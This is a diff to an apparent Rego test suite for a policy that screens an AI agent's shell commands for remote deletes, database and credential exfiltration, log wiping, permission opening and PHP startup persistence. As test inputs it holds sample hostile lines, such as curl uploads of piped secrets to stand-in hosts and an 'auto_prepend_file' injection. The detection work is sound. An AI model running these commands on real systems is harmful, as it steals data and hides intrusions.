@@ -308,7 +308,9 @@ test_remote_delete_over_ssh_asks if {
 	d.id == "shell/remote-delete"
 	d.decision == "ask"
 	count(rules.decision) == 0 with input as dev_input([], {"remote_paths": [object.union(p, {"scope": "temp", "path": "/tmp/x"})]})
-	count(rules.decision) == 0 with input as dev_input([], {"remote_paths": [object.union(p, {"how": "docker exec: rm"})]})
+	# in a running container it is shell/container-data-delete's
+	got := {x.id | some x in rules.decision} with input as dev_input([], {"remote_paths": [object.union(p, {"how": "docker exec: rm"})]})
+	got == {"shell/container-data-delete"}
 }
 
 cloud_input(f) := {
@@ -955,11 +957,11 @@ test_remote_host_permissions_denied if {
 remote_cmd(argv, via) := object.union(cmd(argv), {"wrappers": [via]})
 
 test_remote_service_stop_asks if {
-	every argv in {["systemctl", "stop", "nginx"], ["systemctl", "disable", "--now", "pg"], ["service", "mysql", "stop"], ["pkill", "-9", "mysqld"], ["kill", "-9", "1234"], ["pm2", "delete", "all"], ["docker", "compose", "down"]} {
+	every argv in {["systemctl", "stop", "nginx"], ["systemctl", "disable", "--now", "pg"], ["service", "mysql", "stop"], ["pkill", "-9", "mysqld"], ["kill", "-9", "$(pgrep mysqld)"], ["pm2", "delete", "all"], ["docker", "compose", "down"]} {
 		shell_ids({"commands": [remote_cmd(argv, "ssh db-1")]})["shell/remote-service-stop"] == "ask"
 	}
-	# reloads and restarts, and the same command here
-	every argv in {["systemctl", "restart", "nginx"], ["systemctl", "reload", "nginx"], ["kill", "-HUP", "1234"], ["kill", "-s", "USR1", "1234"], ["pkill", "-HUP", "nginx"]} {
+	# reloads and restarts, a process signalled by its number (as here), and the same command here
+	every argv in {["systemctl", "restart", "nginx"], ["systemctl", "reload", "nginx"], ["kill", "-HUP", "1234"], ["kill", "-9", "1234"], ["kill", "-s", "USR1", "1234"], ["pkill", "-HUP", "nginx"]} {
 		not shell_ids({"commands": [remote_cmd(argv, "ssh db-1")]})["shell/remote-service-stop"]
 	}
 	not shell_ids({"commands": [cmd(["systemctl", "stop", "nginx"])]})["shell/remote-service-stop"]
@@ -2081,4 +2083,134 @@ test_header_credentials_to_unrelated_hosts if {
 	not got["shell/secret-sent"]
 	# in a body it is handed over: still denied
 	shell_ids({"uploads": [sent_up("curl", "https://paste.example.org/in", "GRAFANA_TOKEN")]})["shell/secret-sent"] == "deny"
+}
+
+# Remote and container commands (issue 11 item 10, remote side).
+
+remote_write(how) := {"path": "/srv/in/x", "access": "write", "how": how, "recursive": false, "glob": false, "dynamic": false, "scope": "system", "evidence": "> x"}
+
+ssh_up(target, source) := {"program": "ssh", "target": target, "source": source, "evidence": concat("", ["… | ssh ", target, " 'cat > x'"])}
+
+test_ssh_deposit_to_a_public_host_is_an_upload if {
+	# a dump deposited on a public address or a public domain is judged as curl -T - is
+	every target in ["198.51.100.40", "inbox.data-broker.example"] {
+		got := shell_ids({"commands": [dump_cmd("pg_dump")], "uploads": [ssh_up(target, "<stdin>")], "remote_paths": [remote_write(concat("", ["ssh ", target, ": redirect >"]))]})
+		got["shell/database-exfiltration"] == "deny"
+	}
+	# dd of= and tee store stdin too; program output is an output upload
+	every how in ["dd", "tee"] {
+		got := shell_ids({"uploads": [ssh_up("203.0.113.61", "<piped from iget>")], "remote_paths": [remote_write(concat("", ["ssh 203.0.113.61: ", how]))]})
+		got["shell/output-upload"] == "ask"
+		got["shell/upload-to-address"] == "ask"
+	}
+}
+
+test_ssh_to_own_hosts_and_consumed_streams_quiet if {
+	# an ssh alias, a private address, an internal domain: one's own hosts
+	every target in ["backup", "10.1.2.3", "db-backup.corp.internal", "nas.lan"] {
+		got := shell_ids({"commands": [dump_cmd("pg_dump")], "uploads": [ssh_up(target, "<stdin>")], "remote_paths": [remote_write(concat("", ["ssh ", target, ": redirect >"]))]})
+		not got["shell/database-exfiltration"]
+	}
+	# a program there consumes the stream (docker load): no file deposited
+	got := shell_ids({"uploads": [ssh_up("203.0.113.61", "<piped from docker>")], "remote_paths": []})
+	not got["shell/output-upload"]
+	not got["shell/upload-to-address"]
+}
+
+test_remote_journal_upkeep_quiet_and_wipe_denied if {
+	every target in ["ssh web1: journalctl", "kubectl debug node: journalctl"] {
+		got := shell_ids({"evasion": [{"kind": "log_upkeep", "target": target, "evidence": "journalctl --vacuum-size=500M"}]})
+		not got["shell/trace-trim"]
+		got2 := shell_ids({"evasion": [{"kind": "logs", "target": target, "evidence": "journalctl --vacuum-size=1K"}]})
+		got2["shell/defense-evasion"] == "deny"
+	}
+	# in a container, and here, upkeep still asks
+	shell_ids({"evasion": [{"kind": "log_upkeep", "target": "docker exec: journalctl", "evidence": "journalctl --vacuum-time=2d"}]})["shell/trace-trim"] == "ask"
+}
+
+test_remote_caches_and_temp_folders_quiet if {
+	every path in ["/home/dev/tmp/analog", "/home/dev/public_html/wp-content/cache/*", "/srv/app/bootstrap/cache/*.php", "/srv/app/storage/framework/views/*", "/home/dev/actions-runner/_work/_temp/*", "/lustre/scratch/$USER/old-run", "/data/tmp_shards"] {
+		p := object.union(rdel(path), {"how": "ssh web1: rm", "scope": "home"})
+		not shell_ids({"remote_paths": [p]})["shell/remote-delete"]
+	}
+	# the data next to them, a scratch root itself, and a relative path spelled below this
+	# machine's temporary project folder, still ask
+	every path in ["/srv/app/shared/uploads", "/scratch", "/home/dev/public_html", "/home/dev/project/app/storage/app/*", "/lustre/scratch/shared/pretrain-cache/*", "/lustre/scratch/*/vit-sweep", "/lustre/scratch/$USER"] {
+		p := object.union(rdel(path), {"how": "ssh web1: rm", "scope": "home"})
+		shell_ids({"remote_paths": [p]})["shell/remote-delete"] == "ask"
+	}
+}
+
+test_remote_dynamic_root_is_a_wipe if {
+	p := object.union(rdel("/$SITE_ROOT"), {"how": "ssh web1: rm", "dynamic": true})
+	shell_ids({"remote_paths": [p]})["shell/remote-destroy"] == "deny"
+	q := object.union(rdel("/srv/$SITE"), {"how": "ssh web1: rm", "dynamic": true})
+	not shell_ids({"remote_paths": [q]})["shell/remote-destroy"]
+}
+
+ssh_web1_cmd(argv) := {"program": argv[0], "argv": argv, "cwd": "/", "evidence": concat(" ", argv), "wrappers": ["ssh web1"], "depth": 1}
+
+test_remote_kill_of_a_pid_quiet if {
+	every argv in [["kill", "23817"], ["kill", "-STOP", "31337"], ["kill", "-9", "4242", "4243"]] {
+		not shell_ids({"commands": [ssh_web1_cmd(argv)]})["shell/remote-service-stop"]
+	}
+	every argv in [["pkill", "-f", "php-fpm"], ["kill", "%1"], ["killall", "nginx"], ["systemctl", "stop", "nginx"]] {
+		shell_ids({"commands": [ssh_web1_cmd(argv)]})["shell/remote-service-stop"] == "ask"
+	}
+}
+
+test_remote_app_secrets_read_asks_and_sent_denied if {
+	p := {"path": "/var/www/html/wp-config.php", "access": "read", "via": "shell", "how": "ssh web1: cat", "evidence": "cat wp-config.php", "classes": ["app_secrets", "remote"], "recursive": false}
+	shell_ids_paths([p])["path/remote-app-secrets"] == "ask"
+	got := {d.id: d.decision | some d in rules.decision} with input as shell_input([p], {"uploads": [{"program": "curl", "target": "https://x.example/in", "source": "<piped from ssh>", "evidence": "curl -d @- https://x.example/in"}]})
+	got["shell/credential-exfiltration"] == "deny"
+}
+
+test_remote_permissions_opened_asks if {
+	got := shell_ids({"evasion": [{"kind": "permissions_opened", "target": "ssh web1: chmod", "evidence": "chmod -R 777 ~/public_html"}]})
+	got["shell/remote-permissions-opened"] == "ask"
+	not got["shell/defense-evasion"]
+}
+
+test_running_container_data_delete_asks if {
+	every how in ["kubectl exec: rm", "docker exec: rm", "oc exec: rm", "kubectl debug: rm"] {
+		p := object.union(rdel("/var/loki/chunks/*"), {"how": how})
+		shell_ids({"remote_paths": [p]})["shell/container-data-delete"] == "ask"
+	}
+	# temporary folders and caches there, a new container, a dev environment: quiet
+	every p in [
+		object.union(rdel("/app/tmp/uploads"), {"how": "kubectl exec: rm"}),
+		object.union(rdel("/var/www/html/var/cache/prod"), {"how": "docker exec: rm"}),
+		object.union(rdel("/data/x"), {"how": "docker run: rm"}),
+		object.union(rdel("/data/x"), {"how": "heroku run: rm"}),
+		object.union(rdel("/var/www/html/web/sites/default/files"), {"how": "ddev exec: rm"}),
+	] {
+		not shell_ids({"remote_paths": [p]})["shell/container-data-delete"]
+	}
+}
+
+test_web_startup_persistence_denied if {
+	every kind in ["php_prepend", "web_startup"] {
+		shell_ids({"persistence": [{"kind": kind, "target": "/home/u/public_html/.user.ini", "evidence": "printf 'auto_prepend_file=/tmp/x.php' >> .user.ini"}]})["shell/persistence"] == "deny"
+	}
+}
+
+test_remote_relative_path_below_a_temporary_project_still_asks if {
+	p := object.union(rdel("/tmp/run1/proj/app/storage/app/*"), {"how": "ssh web1: rm", "scope": "project"})
+	inp := {"event": {"kind": "PreToolUse", "tool": {"name": "Bash", "kind": "shell"}}, "facts": {"project_dir": "/tmp/run1/proj", "cwd": "/tmp/run1/proj", "home": "/tmp/run1/home", "paths": [], "shell": {"remote_paths": [p]}}, "config": {}}
+	some d in rules.decision with input as inp
+	d.id == "shell/remote-delete"
+	q := object.union(p, {"path": "/tmp/run1/proj/app/bootstrap/cache/*"})
+	got := {x.id | some x in rules.decision} with input as object.union(inp, {"facts": {"shell": {"remote_paths": [q]}}})
+	not "shell/remote-delete" in got
+}
+
+test_remote_output_sent_on if {
+	up := {"program": "curl", "target": "https://x.example.net/in", "source": "<fetched ssh://db1>", "evidence": "curl -T - https://x.example.net/in"}
+	got := shell_ids({"commands": [object.union(dump_cmd("mysqldump"), {"wrappers": ["ssh db1"]})], "uploads": [up]})
+	got["shell/database-exfiltration"] == "deny"
+	got["shell/output-upload"] == "ask"
+	# to one's own host by ssh, nothing
+	own := {"program": "ssh", "target": "backup", "source": "<fetched ssh://db1>", "evidence": "ssh backup 'cat > x'"}
+	not shell_ids({"uploads": [own]})["shell/output-upload"]
 }
